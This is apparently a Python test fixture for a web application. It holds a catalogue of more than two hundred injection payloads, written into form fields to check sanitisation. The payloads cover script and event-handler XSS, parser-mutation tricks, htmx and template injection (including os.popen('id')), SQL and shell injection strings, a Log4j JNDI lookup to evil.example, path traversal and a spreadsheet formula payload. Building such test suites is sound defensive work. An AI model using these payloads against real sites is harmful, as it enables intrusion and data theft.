"""Texts that would like to be something else: more than two hundred, each of them a way that somebody once got into a page or a mail.

What they ask for is always ``alert``, ``/x`` or ``evil.example``, so a test can tell that one of them got its wish.
"""

import functools

# The first of them.  A planted patch names a test by one of these: whoever changes them looks there, too.
FORTY = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'><b id=x>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<style>*{display:none}</style>", "\" style=\"display:none", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>x",
    "<!--", "-->", "<![CDATA[x]]>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</option></select><script>alert(1)</script>",
    "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "%(name)s %s %d", "&lt;script&gt;", "&#60;script&#62;", "<div hx-get=/x hx-trigger=load>",
    "<div data-hx-get=/x data-hx-trigger=load>", "\" data-hx-get=\"/x\" data-hx-trigger=\"load", "<b hx-on:click=alert(1)>", "<hx-partial hx-target=#main>x</hx-partial>",
    "javascript:alert(1)", "<ScRiPt>alert(1)</sCrIpT>", "＜script＞alert(1)＜/script＞", "<<script>alert(1)//<</script>", "\u202e<script>", "=cmd|' /C calc'!A0",
]  # fmt: skip

# What runs by itself, by the element that it is of.
_BY_ITSELF = {
    "img": ("onerror", "onload", "onloadstart"), "video": ("onerror", "onloadstart", "oncanplay"), "audio": ("onerror", "onloadedmetadata"),
    "body": ("onpageshow", "onfocus", "onresize", "onhashchange", "onscroll", "onbeforeprint"), "svg": ("onload", "onbegin"), "marquee": ("onstart", "onfinish"),
    "input": ("onfocus", "onblur", "oninvalid"), "select": ("onfocus",), "textarea": ("onfocus",), "keygen": ("onfocus",), "button": ("onfocus",),
    "iframe": ("onload",), "object": ("onerror", "onload"), "embed": ("onload",), "script": ("onerror",), "link": ("onerror", "onload"),
    "style": ("onload", "onerror"), "details": ("ontoggle",), "dialog": ("oncancel",), "frameset": ("onload",), "a": ("onfocus", "onanimationend"),
    "div": ("onanimationstart", "ontransitionend", "onscrollend", "onpointerrawupdate", "onbeforematch", "oncontentvisibilityautostatechange"),
    "form": ("onformdata", "onsubmit"), "track": ("onerror",), "source": ("onerror",), "image": ("onerror",), "isindex": ("onfocus",),
}  # fmt: skip
HANDLERS = [f"<{tag} src=/x {handler}=alert(1) tabindex=1 autofocus>" for tag, every in _BY_ITSELF.items() for handler in every]

FRAMES = [
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe srcdoc=\"&lt;img src=/x onerror=alert(1)&gt;\">", "<iframe srcdoc='<svg onload=parent.alert(1)>'>",
    "<iframe src=/x>", "<iframe src=\"data:text/html,<script>parent.alert(1)</script>\">", "<iframe sandbox=allow-scripts srcdoc=<script>alert(1)</script>>",
    "<object data=/x>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=/x>", "<embed src=javascript:alert(1)>",
    "<portal src=/x onload=alert(1)>", "<fencedframe src=/x>", "<applet code=/x>", "<frameset><frame src=javascript:alert(1)></frameset>",
]  # fmt: skip

ADDRESSES = [
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"vbscript:alert(1)\">x</a>",
    "<a href=//evil.example target=_blank>x</a>", "<a ping=/x href=#>x</a>", "<area href=javascript:alert(1)>", "data:text/html,<script>alert(1)</script>",
    "javascript://%0aalert(1)", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<form action=javascript:alert(1)><input type=submit autofocus>", "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=/x formaction=/x>", "[x](javascript:alert(1))", "![x](/x)", "<javascript:alert(1)>", "http://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/x.js", "//evil.example", "\\\\evil.example\\share", "mailto:x@evil.example?bcc=y@evil.example",
]  # fmt: skip

DRAWINGS = [
    "<svg><script>alert(1)</script></svg>", "<svg><script href=/x /></svg>", "<svg><image href=/x onerror=alert(1)>", "<svg><use href=/x#a>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><foreignObject><iframe src=/x></foreignObject></svg>", "<svg><style>@import '/x';</style>",
    "<svg><feImage href=/x>", "<svg><handler type=text/javascript>alert(1)</handler>", "<svg><discard onbegin=alert(1)>", "<svg id=x onfocusin=alert(1)><a tabindex=1 autofocus>",
    "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math><annotation-xml encoding=text/html><img src=/x>",
]  # fmt: skip

MUTATIONS = [
    "<noscript><p title=\"</noscript><img src=/x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=/x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=/x onerror=alert(1)&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=/x onerror=alert(1)>",
    "<listing>&lt;img src=/x onerror=alert(1)&gt;</listing>", "<xmp><img src=/x onerror=alert(1)></xmp>", "<plaintext><img src=/x>", "<noembed><img src=/x onerror=alert(1)></noembed>",
    "<template><img src=/x onerror=alert(1)></template>", "<template shadowrootmode=open><img src=/x onerror=alert(1)></template>", "<!--><img src=/x onerror=alert(1)>-->",
    "<!--!><img src=/x onerror=alert(1)>", "<![CDATA[><img src=/x onerror=alert(1)>]]>", "<?xml-stylesheet href=/x?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"/x\">]>&e;",
    "<table><tr><td background=/x>", "</p></div></main></body></html><img src=/x>", "<select><style></select><img src=/x onerror=alert(1)>", "<a<a/onclick=alert(1)//",
    "<img/src='/x'/onerror='alert(1)'>", "<img src=`/x` onerror=`alert(1)`>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script/x>", "<\ufffdscript>alert(1)</script>",
    "<script>alert`1`</script", "<img src=/x onerror=\"&#97;lert(1)\">", "<svg><![CDATA[<image xlink:href=\"]]><img src=/x onerror=alert(1)//\">",
]  # fmt: skip

TEMPLATES = [
    "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% import os %}{{ os.system('id') }}",
    "{# a comment", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "*{7*7}", "@(7*7)", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input ng-focus=alert(1) autofocus>", "<div x-data x-init=alert(1)>", "<div v-html=\"''.constructor.constructor('alert(1)')()\">", "{name}", "{date} {link}", "{0.__class__}", "%s%s%s%n", "%(count)d",
    "$(id)", "`id`", "; ls -la", "' OR 1=1 --", "\"; DROP TABLE message; --", "_%_", "\\'; alert(1); //", "${jndi:ldap://evil.example/x}", "(*)(uid=*)", "+1+1", "@SUM(1+1)", "-2+3",
]  # fmt: skip

HTMX = [
    "<div hx-get=/x hx-trigger='load delay:1ms'>", "<div hx-post=/x hx-trigger=revealed>", "<div data-hx-post=/x data-hx-trigger=intersect>", "<b hx-on::load=alert(1)>",
    "<b data-hx-on:htmx:load=alert(1)>", "<b hx-on=\"htmx:load: alert(1)\">", "<div hx-vals='js:{a:alert(1)}' hx-get=/x hx-trigger=load>", "<div hx-headers='js:{a:alert(1)}'>",
    "<div hx-ext=sse sse-connect=/x>", "<div hx-ws=connect:/x>", "<div hx-trigger='load[alert(1)]' hx-get=/x>", "<div hx-include=* hx-get=//evil.example hx-trigger=load>",
    "<template hx type=partial hx-target=#main><img src=/x></template>", "<template hx-partial hx-target=body hx-swap=innerHTML>x</template>", "<div hx-swap-oob=true id=main>x</div>",
    "<div data-hx-swap-oob=\"innerHTML:#main\">x</div>", "<body hx-boost=true>", "<div hx-history-elt hx-push-url=/x>", "<script type=text/hyperscript>init alert(1)</script>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>", "<div data-while-seen data-hx-get=/x data-hx-trigger='every 1s'>", "<a data-hx-delete=/x data-hx-confirm=x>x</a>",
]  # fmt: skip

LOOKS = [
    "<style>@import url(/x);</style>", "<style>body{background:url(/x)}</style>", "<p style=background:url(/x)>", "<link rel=stylesheet href=/x>", "<link rel=prefetch href=/x>",
    "<link rel=preload as=script href=/x>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=manifest href=/x>", "<p style='position:fixed;inset:0;background:red'>",
    "<div style=width:expression(alert(1))>", "<meta http-equiv=refresh content='0;url=/x'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta http-equiv=set-cookie content=x=1>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<base href=/x/>", "<base target=_blank>", "<img src='//evil.example/?", "<img src=\"/x?", "<form action=/x><textarea name=x>",
    "<input name=csrf_token value=x>", "<button form=answer formaction=/x>Send</button>", "<a id=document name=location href=/x>", "<form id=x><input name=action>", "<img src=/x srcset='/x 1x'>",
    "<picture><source srcset=/x><img></picture>", "<video poster=/x>", "<audio src=/x autoplay>", "<bgsound src=/x>", "<img lowsrc=/x dynsrc=/x>", "<body background=/x>",
]  # fmt: skip

LETTERS = [
    "\u202ekcatta\u202c is read backwards", "\u2066\u202egpj.exe\u2069", "\u200b\u200c\u200d\ufeff", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 3, "ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ（１）",
    "alert(1)\u2060\u180e//", "ſcript K İ ı ß ŉ", "مرحبا <b>بكم</b> ١٢٣", "שלום \"עולם\"", "👨‍👩‍👧‍👦 🏳️‍🌈 🇨🇦 👍🏽", "😀" * 20, "𝕊𝕔𝕣𝕚𝕡𝕥 𐍈 𠜎", "﷽", "Ω≈ç√∫˜µ≤≥÷", "null", "undefined", "None", "NaN", "true", "-1", "0",
    "[object Object]", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E", "&amp;lt;b&amp;gt;", "&nbsp;&zwnj;&#x202e;", "&#x0000003c;img src=/x&#x3e;",
    "\uff02 onload=alert(1)", "‹script›alert(1)‹/script›", "«script»", "%00<img src=/x>", "../../../etc/passwd", "CON.pdf", "a" * 100, "Zwölf Boxkämpfer jagen Viktor quer über den großen Sylter Deich",
    "Bcc: evil@evil.example", "=?utf-8?q?x?=", ".", "\"quoted\" <evil@evil.example>", "<evil@evil.example>", "From here on",
]  # fmt: skip

LINKS = [" ".join(f"https://evil.example/x{number}" for number in range(50)), " ".join(f"<a href=/x{number}>x</a>" for number in range(50))]

PAYLOADS = list(dict.fromkeys([
    *FORTY, *HANDLERS, *FRAMES, *ADDRESSES, *DRAWINGS, *MUTATIONS, *TEMPLATES, *HTMX, *LOOKS, *LETTERS, *LINKS,
]))  # fmt: skip


@functools.cache
def bundles(letters: int) -> list[str]:
    """The texts, several to a bundle of at most so many letters; one that is longer by itself is left out.

    If one of a bundle became an element, the others would be inside or after it, and the page would differ all the same.
    """
    made, last = [], ""
    for text in PAYLOADS:
        if len(text) > letters:
            continue
        if last and len(last) + 1 + len(text) > letters:
            made.append(last)
            last = ""
        last = f"{last} {text}" if last else text
    return [*made, last] if last else made


class Texts:
    """What somebody writes into every field in one of a few rounds: each field another bundle that fits it, in the next round the next ones.

    ``body`` is for messages, ``name`` for the names of clients, ``house`` for the agency's.  Round -1 is harmless.
    """

    LETTERS = 1400
    ROUNDS = range(len(bundles(LETTERS)))

    def __init__(self, number: int) -> None:
        self.number, self._taken = number, 0
        self.body, self.name, self.house = self.of(self.LETTERS), self.of(100), self.of(100)

    def of(self, letters: int) -> str:
        """Another text of at most so many letters."""
        self._taken += 1
        if self.number < 0:
            return f"plain {self._taken}"
        every = bundles(letters)
        return every[(self.number + (self._taken - 1) * len(self.ROUNDS)) % len(every)]
